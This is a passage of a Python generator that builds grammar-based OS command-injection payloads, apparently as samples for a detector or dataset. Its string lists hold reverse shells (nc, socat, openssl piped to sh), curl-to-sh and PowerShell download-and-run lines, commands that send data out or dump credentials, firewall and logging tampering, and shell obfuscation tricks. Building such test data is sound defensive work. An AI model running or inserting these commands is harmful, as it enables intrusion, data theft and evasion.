    return payload, f"{name}:{idx}"


# --- broader forms (glued substitution, wide vocabulary, word splitting, paths, Windows) ----

#: Plausible values a substitution is glued onto with no separator.
_GLUE_BASES = (
    "backup.tar.gz", "report_2024.pdf", "invoice-{n}.pdf", "7f3a", "{hex}", "john.doe@example.com", "{w}@{w}.com",
    "www.example.io", "{w}.example.com", "api.{w}.net", "{w}.jpg", "IMG_{n}.png", "v1.2.{n}", "main", "release/{n}",
    "{n}", "order-{n}", "+1 555 0100", "{w}", "/tmp/{w}.log", "en-US", "{w}_{n}.csv", "https://{w}.com/x", "10.0.0.{n}",
)  # fmt: skip
_GLUE_CMDS = (
    "id", "whoami", "id>/tmp/{w}", "sleep {n}", "curl oob.example", "curl {host}", "uname -a", "hostname", "nslookup {host}",
    "wget -q {url}", "cat /etc/passwd", "ping -c {n} {host}", "touch /tmp/{w}", "getent passwd", "curl {url}|sh", "dig {host}",
)  # fmt: skip
#: A wider command vocabulary (after a separator).
_WIDE = (
    "getent passwd", "getent shadow", "getent hosts {host}", "killall -9 {w}", "killall nginx", "iptables -F", "iptables -P INPUT ACCEPT",
    "iptables -L -n", "docker run --rm -v /:/mnt alpine chroot /mnt sh", "docker run -d --privileged {w}/{w}", "docker ps", "docker exec {w} id",
    "kubectl get secrets -A -o yaml", "kubectl exec -it {w} -- sh", "kubectl run {w} --image=alpine --restart=Never -- sh -c 'id'",
    "aws s3 cp /etc/passwd s3://{w}/", "aws s3 cp s3://{w}/{w}.sh /tmp/{w}.sh", "aws sts get-caller-identity", "aws iam list-users",
    "gcloud auth print-access-token", "gcloud compute instances list", "gcloud secrets versions access latest --secret={w}",
    "systemctl stop firewalld", "systemctl enable {w}.service", "systemctl disable --now apparmor", "crontab -l", "crontab -r",
    "useradd -o -u 0 {w}", "useradd -m {w} -s /bin/bash", "passwd -d root", "echo {w}:{w}|chpasswd", "mkfifo /tmp/{w}",
    "mkfifo /tmp/f; nc {ip} {port} </tmp/f | sh >/tmp/f", "socat TCP:{ip}:{port} EXEC:sh", "socat file:`tty`,raw,echo=0 tcp:{ip}:{port}",
    "openssl s_client -quiet -connect {ip}:{port} | sh", "openssl s_client -connect {host}:443", "tftp {ip} -c get {w}", "tftp -i {ip} GET {w}",
    "ftp -n {ip}", "scp /etc/passwd {w}@{ip}:", "scp -r /var/www {w}@{ip}:/tmp", "rsync -a /etc/ {w}@{ip}::{w}", "rsync {ip}::{w}/{w} /tmp/",
    "tar cf - /etc | nc {ip} {port}", "tar czf /tmp/{w}.tgz /home", "zip -r /tmp/{w}.zip /var/www", "zip -q /tmp/{w}.zip /etc/passwd",
    "echo {b64file} | base64 -d | sh", "base64 -d <<< {b64file} | bash", "awk 'BEGIN{{system(\"id\")}}'", "awk 'BEGIN{{system(\"{scmd}\")}}'",
    "find / -name {w} -exec id \\;", "find . -exec {scmd} \\;", "find /tmp -exec sh -c '{scmd}' \\;", "xargs -0 sh -c '{scmd}'",
    "echo id | xargs sh -c", "ls | xargs rm -f", "nohup sh -c '{scmd}' &", "setsid {scmd}", "env -i sh -c '{scmd}'", "chattr -i /etc/passwd",
    "ssh-keygen -f /tmp/{w} -N ''", "at now + 1 minute <<< '{scmd}'", "strace -p 1", "gdb -batch -ex 'call system(\"id\")' -p 1",
    "mount -o bind /tmp /mnt", "insmod /tmp/{w}.ko", "journalctl --vacuum-time=1s", "history -c", "unset HISTFILE", "pkill -f {w}",
)  # fmt: skip
_WIN_EXTRA = (
    "for /f %i in ('whoami') do nslookup %i.{host}", "for /f \"tokens=*\" %a in ('hostname') do ping -n 1 %a.{host}",
    "systeminfo | findstr /b /c:\"os name\"", "systeminfo | findstr /B /C:\"OS Name\" /C:\"OS Version\"", "type C:\\Windows\\win.ini",
    "type C:\\inetpub\\wwwroot\\web.config", "%COMSPEC% /c whoami", "%COMSPEC% /c dir", "%comspec% /k net user",
    "powershell -nop -w hidden -c whoami", "powershell -nop -w hidden -c \"iex(iwr {url})\"", "powershell -nop -c Get-LocalUser",
    "cmd.exe /c whoami", "cmd.exe /c \"ping -n {n} 127.0.0.1\"", "cmd /c set", "wmic process call create \"cmd /c whoami > C:\\temp\\{w}.txt\"",
    "wmic process call create 'powershell -c iwr {url}'", "wmic qfe list", "net user administrator", "net group \"domain admins\" /domain",
    "reg query HKLM /f password /t REG_SZ /s", "dir C:\\Users\\ /s /b", "tasklist /v | findstr /i {w}", "nltest /dclist:", "whoami /priv",
)  # fmt: skip
_URL_PATH_TMPL = (
    "/branches/{branch}{sep}{cmd}/build", "/repos/{w}{sep}{cmd}/{w}", "/api/v1/hosts/{host0}{sep}{cmd}", "/files/{w}.txt{sep}{cmd}",
    "/ping/127.0.0.1{sep}{cmd}", "/download/{w}{sep}{cmd}/latest", "/projects/{w}/jobs/{n}{sep}{cmd}/retry", "/diag/dns/{host0}{sep}{cmd}",
)  # fmt: skip


def _wsplit(cmd: str, rng: random.Random) -> str:
    """Shell word-splitting obfuscation of the first word: who$@ami, wh""oami, w'h'oami, $u."""
    head, rest = _split_first(cmd)
    if len(head) < 2 or not head.isalpha():
        head, rest = "whoami", ""
    k = rng.randint(1, len(head) - 1)
    style = rng.randrange(8)
    if style == 0:
        new = head[:k] + rng.choice(["$@", "$*", "${9}", "$9", "$()", "``"]) + head[k:]
    elif style == 1:
        new = head[:k] + rng.choice(['""', "''"]) + head[k:]
    elif style == 2:
        new = f"{head[:k]}'{head[k]}'{head[k + 1 :]}" if k < len(head) else f"'{head}'"
    elif style == 3:
        new = f'{head[:k]}"{head[k:]}"'
    elif style == 4:
        new = "".join(f"\\{c}" if rng.random() < 0.5 else c for c in head)
    elif style == 5:
        var = rng.choice(["u", "a", "x", "c", "cmd", "p"])
        return (
            f"{var}={head}{' ' + rest if rest else ''};${var}"
            if not rest
            else f"{var}='{cmd}';${var}"
        )
    elif style == 6:
        var = rng.choice(["u", "a", "x"])
        return f"{var}={head};${{{var}}}" + (f" {rest}" if rest else "")
    else:
        new = f"{head[:k]}${{x}}{head[k:]}"
    return new + (f" {rest}" if rest else "")


def _extra(rng: random.Random) -> tuple[str, str]:
    form = weighted(
        rng, (("glued", 2.5), ("wide", 3.5), ("wsplit", 1.5), ("urlpath", 1.2), ("winx", 2.0))
    )
    if form == "glued":
        base = fill(rng.choice(_GLUE_BASES), rng, _BASE_X)
        cmd = fill(rng.choice(_GLUE_CMDS), rng, _BASE_X)
        wrap = rng.choice(["$({c})", "$({c})", "`{c}`", "`{c}`", "$( {c} )", "$({c});"])
        return base + wrap.replace("{c}", cmd), "extra:glued"
    if form == "wide":
        cmd = fill(rng.choice(_WIDE), rng, _BASE_X)
        payload, how = _assemble(rng, cmd, windows=False)
        return payload, f"extra:wide:{how}"
    if form == "wsplit":
        cmd = fill(
            rng.choice(
                (
                    "whoami",
                    "id",
                    "uname -a",
                    "cat /etc/passwd",
                    "hostname",
                    "ls -la",
                    "sleep {n}",
                    "getent passwd",
                    "ps aux",
                )
            ),
            rng,
            _BASE_X,
        )
        ob = _wsplit(cmd, rng)
        if rng.random() < 0.25:
            return ob, "extra:wsplit:bare"
        payload, how = _assemble(rng, ob, windows=False)
        return payload, f"extra:wsplit:{how}"
    if form == "urlpath":
        cmd = fill(
            rng.choice(
                (
                    "sleep {n}",
                    "id",
                    "getent passwd",
                    "whoami",
                    "curl {host}",
                    "cat /etc/passwd",
                    "nslookup {host}",
                    "uname -a",
                )
            ),
            rng,
            _BASE_X,
        )
        tmpl = rng.choice(_URL_PATH_TMPL)
        sep = rng.choice(["|", ";", "&&", "||", "%7c", "%3b", "`", "$("])
        value = fill(
            tmpl,
            rng,
            _BASE_X,
            {"sep": sep, "cmd": cmd + ("`" if sep == "`" else ")" if sep == "$(" else "")},
        )
        return value, "extra:urlpath"
    cmd = fill(rng.choice(_WIN_EXTRA), rng, _BASE_X)
    if rng.random() < 0.3 and any(
        t in cmd.lower() for t in ("for /f", "%comspec%", "powershell", "cmd", "wmic")
    ):
        return cmd, "extra:winx:bare"
    payload, how = _assemble(rng, cmd, windows=True)
    return payload, f"extra:winx:{how}"


_BASE_X: dict[str, Filler] = {
    **_BASE,
    "hex": lambda r: "".join(r.choice("0123456789abcdef") for _ in range(r.choice([4, 6, 8]))),
    "branch": choice_filler(("main", "master", "develop", "feature/login", "release-2.1")),
    "host0": choice_filler(("example.com", "8.8.8.8", "127.0.0.1", "db01")),
}


def extra_payload(rng: random.Random) -> tuple[str, str]:
    """One payload of the broader forms: glued substitution, wide vocabulary, word splitting, URL paths, Windows."""
    return _extra(rng)


_KINDS: tuple[tuple[str, float], ...] = (
    ("unix", 0.6),
    ("win", 0.22),
    ("code", 0.06),
    ("ssi", 0.025),
    ("shellshock", 0.025),
    ("arginj", 0.02),
    ("chain", 0.05),
    ("extra", 0.22),
)


def rce_payload(rng: random.Random) -> tuple[str, str]:
    """One grammar command-injection payload and its template group key."""
    kind = weighted(rng, _KINDS)
    if kind == "code":
        return _special(rng, _CODE, "code")
    if kind == "ssi":
        return _special(rng, _SSI, "ssi")
    if kind == "shellshock":
        return _special(rng, _SHELLSHOCK, "shellshock")
    if kind == "arginj":
        return _special(rng, _ARGINJ, "arginj")
    if kind == "extra":
        return _extra(rng)
    if kind == "chain":  # several commands in a row
        cmds = [fill(rng.choice(_UNIX[:60]), rng, _BASE) for _ in range(rng.randint(2, 3))]
        sep = rng.choice([";", "&&", "|", ";", "\n"])
        payload, how = _assemble(rng, sep.join(cmds), windows=False)
        return payload, f"chain:{how}"
    windows = kind == "win"
    cmd, key = _win_cmd(rng) if windows else _unix_cmd(rng)
    payload, how = _assemble(rng, cmd, windows)
    return payload, f"{key}:{how}"


def generate_rce(rng: random.Random, n: int) -> list[Sample]:
    """``n`` distinct grammar-generated OS command-injection payloads (kind "value")."""

    def make() -> Sample:
        payload, key = rce_payload(rng)
        return Sample(payload, "value", "rce", "gen:rce:grammar", f"gen:rce:{key}")

    return unique_samples(make, n)
